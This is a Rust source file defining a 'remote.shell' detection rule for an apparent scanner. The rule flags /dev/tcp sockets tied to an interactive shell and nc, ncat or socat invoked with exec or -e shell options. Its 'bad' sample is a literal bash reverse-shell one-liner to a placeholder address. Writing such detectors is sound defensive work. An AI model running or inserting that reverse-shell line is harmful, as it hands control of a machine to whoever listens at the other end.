//! `remote.shell`

use super::super::shell::known::{Language, interpreter};
use super::super::shell::machine::Event;
use super::{Look, Rule, Weight};
use crate::model::finding::Tier;
use crate::model::text;

pub(super) static RULE: Rule = Rule {
    id: "remote.shell",
    title: "gives a shell to another machine",
    weight: Weight { run: Some(Tier::Block), fence: Some(Tier::Block), inline: Some(Tier::Warn), prose: None, file: None },
    owasp: &["AST01"],
    what: "A shell's input and output are tied to a connection: `/dev/tcp`, `nc -e`, `socat exec:`.",
    why: "Whoever is at the other end types into this machine.",
    instead: "There is no use of this in a skill that is not about attacks; say so, and let it be overridden for exactly these bytes.",
    limits: "Connections that carry data and no shell are left alone.",
    bad: "```sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n",
    alike: "```sh\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo open\nnc -z localhost 5432\n```\n",
    look: Look::Event(|event, around| match event {
        Event::Socket(path) if around.text.contains("-i ") && around.text.contains("sh") => {
            Some(format!("ties a shell to `{}`", text::escape_short(&path.text, 80)))
        }
        Event::Call { name, argv, .. } if matches!(name.as_str(), "nc" | "ncat" | "netcat" | "socat") => {
            let given = argv.iter().any(|word| {
                let low = word.text.to_lowercase();
                low.starts_with("exec:") || low.starts_with("system:")
            });
            let option = argv.windows(2).any(|pair| {
                let short = pair[0].text.starts_with('-') && pair[0].text.ends_with(['e', 'c']);
                let name = pair[1].text.rsplit('/').next().unwrap_or_default();
                short && interpreter(name) == Some(Language::Shell)
            });
            (given || option).then(|| format!("`{name}` gives a shell to whoever connects"))
        }
        _ => None,
    }),
};
